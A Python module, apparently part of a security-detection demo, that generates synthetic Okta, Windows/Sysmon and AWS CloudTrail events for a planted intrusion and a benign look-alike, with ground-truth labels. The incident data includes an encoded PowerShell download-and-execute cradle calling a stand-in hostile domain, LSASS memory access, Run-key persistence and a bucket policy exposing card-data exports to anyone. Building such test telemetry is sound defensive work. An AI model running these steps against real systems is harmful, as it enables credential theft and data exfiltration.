"""The planted incident and its innocent look-alike.

Incident: at about a third of the span, while Boston sleeps, somebody who has Dana Whitfield's password (Finance
Controller; never near production) tires her with Okta pushes from a hostile address: five denied, the sixth accepted.
Ten minutes later, when a threat list has just named that address, her account reaches the PCI database server
LKS-PCIDB01 (4624 type 3, then 10, from the same address: the remote access gateway hands the client's own on), gets
special privileges (4672), installs a remote administration tool as a service (7045, Sysmon 1), runs encoded PowerShell
(4688, Sysmon 1, 4104), reads LSASS memory, talks to the hostile address (Sysmon 22 and 3) and plants a Run key
(Sysmon 13). Then AWS calls from the hostile address: a role assumed with an odd user agent, an access key for a service
user, a bucket policy, and a burst of GetObject.

Look-alike: at about two thirds, in office hours, Marcus Oyelaran, whose job these servers are, walks the same path from
his own home address: one push, accepted; same server, same event ids, a signed backup agent, a key rotation.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

from orchestration.demo.estate.company import Company, Host, Person
from orchestration.demo.estate.events import Event, Record
from orchestration.demo.estate.networks import HOSTILE_ADDRESS, PLACES, Place
from orchestration.demo.estate.sources.cloudtrail import SOURCE as CLOUDTRAIL
from orchestration.demo.estate.sources.cloudtrail import CloudTrailFeed
from orchestration.demo.estate.sources.cloudtrail_calls import Call
from orchestration.demo.estate.sources.okta import BY_NAME, Kind, OktaFeed
from orchestration.demo.estate.sources.okta import SOURCE as OKTA
from orchestration.demo.estate.sources.windows import SOURCE as WINDOWS
from orchestration.demo.estate.sources.windows import WindowsFeed
from orchestration.demo.estate.sources.windows_events import (
    Draft,
    connection,
    logon,
    process,
    script,
    service_installed,
    special_logon,
    sysmon,
)
from orchestration.demo.estate.timeline import INCIDENT, LOOK_ALIKE, SERVER_AFTER_SECONDS, Timeline

_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
HOSTILE_DOMAIN = "cdn-telemetry-sync.example"
TOOL = "C:\\Windows\\Temp\\rutserv.exe"
_SERVICES = "C:\\Windows\\System32\\services.exe"
_DOWNLOAD = f"IEX (New-Object Net.WebClient).DownloadString('https://{HOSTILE_DOMAIN}/u')"
_ENCODED = base64.b64encode(_DOWNLOAD.encode("utf-16-le")).decode()
_RUN_KEY = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\"


@dataclass(frozen=True, slots=True)
class Planted:
    """One event of a story: when, in which source, which step, and how to build it from (at, arrived)."""

    at: float
    source: str
    story: str
    step: str
    build: Callable[[float, float], Event]

    @property
    def label(self) -> str:
        """The ground-truth label, e.g. "incident/mfa_push_denied"."""
        return f"{self.story}/{self.step}"


@dataclass(frozen=True, slots=True)
class Path:
    """Who walks the path from sign-in to buckets, from where, with which tools."""

    story: str
    share: float  # of the span, when it begins
    person: str
    place: Place
    address: str
    client: str
    denied: int
    service: tuple[str, str]
    command: str
    script: str
    target: tuple[str, str, int]
    value: str
    role: str
    agent: str
    objects: int


PATHS = (
    Path(
        story="incident",
        share=INCIDENT,
        person="dana.whitfield",
        place=PLACES["hostile"],
        address=HOSTILE_ADDRESS,
        client="KALI-7",
        denied=5,
        service=("RemoteUtilsHost", f"{TOOL} -service"),
        command=f"powershell.exe -NoP -W Hidden -EncodedCommand {_ENCODED}",
        script=_DOWNLOAD,
        target=(HOSTILE_DOMAIN, HOSTILE_ADDRESS, 443),
        value="RemoteUtils",
        role="PciDataOperator",
        agent="Boto3/1.9.21 Python/3.6.6 Linux/5.18.0-kali5-amd64 Botocore/1.12.21",
        objects=60,
    ),
    Path(
        story="look_alike",
        share=LOOK_ALIKE,
        person="marcus.oyelaran",
        place=PLACES["home-boston"],
        address="198.18.0.2",
        client="LKS-WS0001",
        denied=0,
        service=("LarkspurBackup", "C:\\Program Files\\Larkspur\\Backup\\lkbackup.exe"),
        command="powershell.exe -NoProfile -File C:\\Ops\\verify-backup.ps1",
        script="Test-LarkspurBackup -Server LKS-PCIDB01",
        target=("lks-fs01.corp.larkspurhealth.example", "10.10.2.11", 445),
        value="LarkspurBackup",
        role="PciDatabaseAdmin",
        agent="aws-cli/2.15.30 Python/3.11.8 Darwin/23.3.0 source/x86_64 prompt/off command/s3.cp",
        objects=12,
    ),
)
SERVER = "LKS-PCIDB01"
ACCOUNT = "pci"
BUCKET = "larkspur-pci-exports"


def plan(
    company: Company, okta: OktaFeed, windows: WindowsFeed, aws: CloudTrailFeed, start: float, hours: int
) -> list[Planted]:
    """Both stories as plans, in order of time within each source."""
    planted: list[Planted] = []
    for path in PATHS:
        began = Timeline(start, hours).at(path.share)
        person = company.person(path.person)
        planted += _sign_in(path, person, okta, began)
        planted += _server(path, person, company, windows, began + SERVER_AFTER_SECONDS)
        planted += _cloud(path, person, company, aws, began + 1800)
    return planted


def _sign_in(path: Path, person: Person, feed: OktaFeed, began: float) -> Iterator[Planted]:
    sent = ("mfa_push_sent", "system.push.send_factor_verify_push", "")
    steps = [("password", "user.authentication.verify", "")]
    steps += [sent, ("mfa_push_denied", "user.mfa.okta_verify.deny_push", "USER_REJECTED")] * path.denied
    steps += [sent, ("mfa_push_accepted", "user.authentication.auth_via_mfa", "")]
    steps += [("session", "user.session.start", ""), ("vpn_sign_on", "user.authentication.sso", "")]
    for number, (step, name, failure) in enumerate(steps):
        build = partial(_log_event, feed, path, person, BY_NAME[name], failure)
        yield Planted(began + number * 14.0, OKTA, path.story, step, build)


def _log_event(
    feed: OktaFeed, path: Path, person: Person, kind: Kind, failure: str, at: float, arrived: float
) -> Event:
    app = "GlobalProtect VPN" if kind.target == "app" else ""
    record = feed.record(kind, person, path.place, path.address, at, failure, agent=0, app=app)
    return feed.wrap(record, at, arrived)


def _server(path: Path, person: Person, company: Company, feed: WindowsFeed, began: float) -> Iterator[Planted]:
    for number, (step, draft) in enumerate(_drafts(path, person, company.server(SERVER), feed)):
        yield Planted(began + number * 37.0, WINDOWS, path.story, step, partial(feed.wrap, draft))


def _drafts(path: Path, person: Person, server: Host, feed: WindowsFeed) -> Iterator[tuple[str, Draft]]:
    s, client = feed.scene, path.address
    session, (name, address, port) = s.logon_id(), path.target
    yield "network_logon", logon(s, server, person, "3", client, s.logon_id(), path.client)
    yield "remote_desktop_logon", logon(s, server, person, "10", client, session, path.client)
    yield "special_privileges", special_logon(s, server, person, session)
    yield "service_installed", service_installed(s, server, person, *path.service)
    program = path.service[1].removesuffix(" -service")
    yield "service_process", process(s, server, person, (program, path.service[1], _SERVICES))[1]
    audit, created = process(s, server, person, (_POWERSHELL, path.command, "C:\\Windows\\System32\\cmd.exe"), session)
    yield "process", audit
    yield "process", created
    yield "script", script(s, server, path.script)
    yield (
        "dns_query",
        sysmon(s, server, 22, _POWERSHELL, person, QueryName=name, QueryStatus="0", QueryResults=f"::ffff:{address};"),
    )
    yield "connection", connection(s, server, person, _POWERSHELL, address, port, name)
    if path.story == "incident":
        lsass = {
            "TargetImage": "C:\\Windows\\System32\\lsass.exe",
            "GrantedAccess": "0x1010",
            "SourceImage": _POWERSHELL,
        }
        ids = {
            "SourceProcessGUID": s.guid(server),
            "TargetProcessGUID": s.guid(server),
            "SourceProcessId": "4712",
            "TargetProcessId": "696",
        }
        yield "credential_access", Draft(server, "Microsoft-Windows-Sysmon/Operational", 10, ids | lsass)
    value = {"EventType": "SetValue", "TargetObject": _RUN_KEY + path.value, "Details": path.service[1]}
    yield "run_key", sysmon(s, server, 13, _POWERSHELL, person, **value)


def _calls(path: Path, person: Person, account: str) -> Iterator[tuple[str, Call]]:
    key_id = "AKIA" + path.value.upper().ljust(16, "7")[:16]
    key = {"accessKey": {"accessKeyId": key_id, "status": "Active", "userName": "svc-backup"}}
    principal = "*" if path.story == "incident" else f"arn:aws:iam::{account}:root"
    objects = f"arn:aws:s3:::{BUCKET}/*"
    statement = {"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject", "Resource": objects}
    policy = {"bucketName": BUCKET, "bucketPolicy": {"Version": "2012-10-17", "Statement": [statement]}}
    role = {"roleArn": f"arn:aws:iam::{account}:role/{path.role}", "roleSessionName": person.email}
    yield "assume_role", Call("sts.amazonaws.com", "AssumeRole", parameters=_always(role), resource="AWS::IAM::Role")
    user = _always({"userName": "svc-backup"})
    yield "create_access_key", Call("iam.amazonaws.com", "CreateAccessKey", False, False, user, _always(key))
    bucket = "AWS::S3::Bucket"
    yield "put_bucket_policy", Call("s3.amazonaws.com", "PutBucketPolicy", False, False, _always(policy), None, bucket)
    for number in range(path.objects):
        what = _always({"bucketName": BUCKET, "key": f"cards/2026/02/part-{number:04d}.parquet"})
        yield "get_object", Call("s3.amazonaws.com", "GetObject", True, True, what, None, "AWS::S3::Object")


def _always(record: Record) -> Callable[[object], Record]:
    return lambda _: record


def _cloud(path: Path, person: Person, company: Company, feed: CloudTrailFeed, began: float) -> Iterator[Planted]:
    account = company.accounts[ACCOUNT]
    for number, (step, call) in enumerate(_calls(path, person, account)):
        build = partial(_api_call, feed, path, person, account, call)
        yield Planted(began + min(number, 3) * 61.0 + number * 2.5, CLOUDTRAIL, path.story, step, build)


def _api_call(
    feed: CloudTrailFeed, path: Path, person: Person, account: str, call: Call, at: float, arrived: float
) -> Event:
    role = path.role
    if call.name == "AssumeRole":
        role = f"AWSReservedSSO_{'FinanceReadOnly' if path.story == 'incident' else 'Database'}_7d1f2a90c4b35e68"
    identity = feed.assumed_role(role, person.email, account, at, mfa=True)
    return feed.wrap(feed.record(call, identity, account, "us-east-1", at, path.address, path.agent), at, arrived)
